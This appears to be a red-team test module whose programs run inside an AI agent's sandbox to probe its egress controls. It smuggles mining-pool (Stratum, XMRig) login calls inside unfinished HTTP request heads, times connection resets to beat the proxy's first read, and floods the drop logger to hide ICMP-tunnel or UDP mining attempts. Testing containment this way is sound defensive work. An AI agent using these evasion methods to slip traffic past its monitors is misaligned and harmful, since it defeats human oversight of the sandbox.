"""Programs of test_redteam_round17, run in the sandbox as the agent: an HTTP request head abandoned unfinished
(a pool's lines in it, then silence, the connection kept open), and a flood of new destinations that fills the
drop logger's counting generation before a real attempt.

Every program prints ``done`` last (and what it saw before). Nothing here is mining software: the bytes are a pool
client's opening, played once per attempt.
"""

from __future__ import annotations

import ipaddress
import os
import socket
import struct
import sys
import time

MARK = "rt17mark"
STRATUM = (
    b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n'
    b'{"id":2,"method":"mining.authorize","params":["' + MARK.encode() + b'.worker","x"]}\n'
)
XMRIG_LOGIN = (
    b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skx'
    b'NgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge","pass":"x","rigid":"' + MARK.encode() + b'","agent":'
    b'"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n'
)
"""XMRig's login (its JSON-RPC ``login`` call: wallet, password, rig id, agent, algorithms)."""
HEAD = b"GET / HTTP/1.1\r\nHost: {host}\r\nX-Rt17: head\r\n"
"""An HTTP request head that never gets its blank line; ``X-Rt17`` marks its bytes on the internet side."""
ABANDONED = {
    "stratum": STRATUM,
    "xmrig": XMRIG_LOGIN,
    "benign": b"User-Agent: curl/8.5.0\r\nAccept: */*\r\nX-Pad: ",
}
AFTER_A_REQUEST = "stratum-after-a-request"
"""The Stratum head, on a connection kept alive after a whole request was answered (allowed.lab's site)."""
"""What follows the head's first lines; the client then says nothing more and never ends the connection."""


def abandoned_main() -> None:
    """``abandoned_main VARIANT HOST PORT WAIT``: an HTTP request head to ``HOST`` (a name is resolved through the
    gateway first) never finished, the variant's lines in it, then silence: the connection is kept open and read
    until the gateway closes it, at most ``WAIT`` seconds. Prints ``answer N`` (bytes the gateway sent back),
    ``closed`` or ``open`` (still open at ``WAIT``), and ``done``."""
    variant, host, port, wait = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    address = str(socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
    answer, ended = b"", "open"
    with socket.create_connection((address, port), timeout=20) as conn:
        if variant.endswith("-after-a-request"):  # kept alive: a whole request answered first
            conn.sendall(b"GET /simple/ HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
            first = _response(conn)
            print(f"first {first[:30]!r}", flush=True)
            variant = variant.removesuffix("-after-a-request")
        conn.sendall(HEAD.replace(b"{host}", host.encode()) + ABANDONED[variant])
        conn.settimeout(wait)
        try:
            while chunk := conn.recv(4096):
                answer += chunk
            ended = "closed"
        except TimeoutError:
            ended = "open"
        except OSError as exc:
            ended = f"closed ({type(exc).__name__})"
    print(f"answer {len(answer)} {answer[:60]!r}", flush=True)
    print(ended, flush=True)
    print("done", flush=True)


def _response(conn: socket.socket) -> bytes:
    """One HTTP/1.1 response with a Content-Length (its head and body)."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = conn.recv(4096)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    fields = [line.split(b":", 1) for line in head.split(b"\r\n")[1:]]
    length = next((int(value) for name, value in fields if name.strip().lower() == b"content-length"), 0)
    while len(body) < length and (chunk := conn.recv(4096)):
        body += chunk
    return data


WINDOW_PAUSES = tuple(i * 0.0002 for i in range(50))
"""Pauses between the write and the reset, swept over 0-10 ms in steps of 0.2 ms (busy-waited), as round 15's."""


def window_main() -> None:
    """``window_main HOST PORT COUNT``: ``COUNT`` connections one after another, each an HTTP request head never
    finished with Stratum's calls in it (one write), then after a pause swept over `WINDOW_PAUSES` a reset
    (``SO_LINGER`` 0): the reset lands around the front's look and mitmproxy's first read. Prints ``made N`` and
    ``done``."""
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    address = str(socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
    made = 0
    for n in range(count):
        try:
            conn = socket.create_connection((address, port), timeout=10)
        except OSError:
            continue
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        conn.sendall(HEAD.replace(b"{host}", host.encode()) + STRATUM)
        until = time.perf_counter() + WINDOW_PAUSES[n % len(WINDOW_PAUSES)]
        while time.perf_counter() < until:
            pass
        conn.close()
        made += 1
    print(f"made {made}", flush=True)
    print("done", flush=True)


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _echo(ident: int, seq: int, data: bytes) -> bytes:
    head = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
    return head[:2] + struct.pack("!H", _checksum(head + data)) + head[4:] + data


FLOOD_NETWORKS = ("198.19.0.0/16", "198.18.128.0/17", "198.18.64.0/18")
"""Where the flood's destinations are (the benchmarking range, RFC 2544: routed nowhere but into the lab), 114,688
addresses, none of them the real attempt's."""
REAL = "198.18.11.9"
"""The real attempt's destination: a key the flood never used."""


def _destinations(count: int) -> list[str]:
    found: list[str] = []
    if count <= 0:
        return found
    for network in FLOOD_NETWORKS:
        for address in ipaddress.ip_network(network):
            found.append(str(address))
            if len(found) == count:
                return found
    return found


def _real_attempt(kind: str) -> int:
    """The attempt the flood is to hide: three echoes carrying 600 random bytes and the marker (what the ICMP
    tunnel detector calls a tunnel), or a UDP datagram with Stratum's calls to the real destination's 3333."""
    if kind == "icmp":
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            for seq in range(3):
                sock.sendto(_echo(0x1717, seq, MARK.encode() + os.urandom(600)), (REAL, 0))
        return 3
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(STRATUM, (REAL, 3333))
    return 1


def flood_main() -> None:
    """``flood_main KIND COUNT [DELAY]``: KIND ``icmp`` (echoes of 8 bytes) or ``udp`` (datagrams of 8 bytes to
    port 9), one to each of ``COUNT`` distinct destinations as fast as one process sends them (0: no flood, the
    control), then the real attempt (`_real_attempt`) at once or ``DELAY`` seconds later. Prints ``flood N in S s``,
    ``real N`` and ``done``."""
    kind, count = sys.argv[1], int(sys.argv[2])
    delay = float(sys.argv[3]) if len(sys.argv) > 3 else 0.0
    targets = _destinations(count)
    started = time.monotonic()
    if kind == "icmp":
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        packet, port = _echo(0x1716, 0, b"rt17ping"), 0
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        packet, port = b"rt17udp!", 9
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sent = 0
    send = sock.sendto
    for address in targets:
        try:
            send(packet, (address, port))
            sent += 1
        except OSError:  # ENOBUFS: the sandbox's own queue is full; the flood goes on
            pass
    sock.close()
    print(f"flood {sent} in {time.monotonic() - started:.2f} s", flush=True)
    time.sleep(delay)  # the agent's own pacing: the real attempt that long after the flood
    print(f"real {_real_attempt(kind)}", flush=True)
    print("done", flush=True)
